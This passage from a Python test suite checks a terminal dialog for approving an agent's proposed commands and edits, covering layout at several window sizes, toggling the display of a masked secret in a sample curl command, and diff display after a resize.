        for size in (Size(40, 10), Size(200, 60), Size(80, 24)):
            chat._compositor.reflow(chat, size)  # while a window changes, one screen may have the size before
            visible_screen_stack.set([chat])
            lines = stage.dialog.render_lines(Region(0, 0, 80, 24))
            assert [line.cell_length for line in lines] == [80] * 24


async def test_a_key_shows_what_is_hidden_and_what_is_approved_stays_the_same(tmp_path):
    mask = SecretMask()
    mask.learn("MINE", "q7Zrt9vX2m4kPwd3Ls8Y")
    packet = a_command("curl q7Zrt9vX2m4kPwd3Ls8Y")
    async with on_stage(tmp_path, review(a_request(mask.mask_packet(packet)))) as stage:
        await stage.send("go")
        await stage.asked()
        assert "$ curl [secret:MINE]" in stage.text()
        await stage.pilot.press("s")
        await stage.shows("$ curl q7Zrt9vX2m4kPwd3Ls8Y")
        await stage.asked()
        await stage.pilot.press("s")
        await stage.shows("$ curl [secret:MINE]")
        await stage.asked()
        await stage.pilot.press("y")
        await stage.until(lambda: stage.agent.answers)

    assert stage.agent.answers == [Approve(packet.digest)]


async def test_a_smaller_window_still_begins_with_what_changes(tmp_path):
    same = "".join(f" same {n}\n" for n in range(12))
    packet = an_edit(f"--- a/x\n+++ b/x\n@@ -1,13 +1,13 @@\n{same}-old\n+new\n")
    async with on_stage(tmp_path, review(a_request(packet)), size=(120, 40)) as stage:
        await stage.send("go")
        await stage.asked()
        await stage.pilot.resize_terminal(40, 10)

        await stage.until(lambda: "same 0" not in stage.text() and "13 - old" in stage.text())
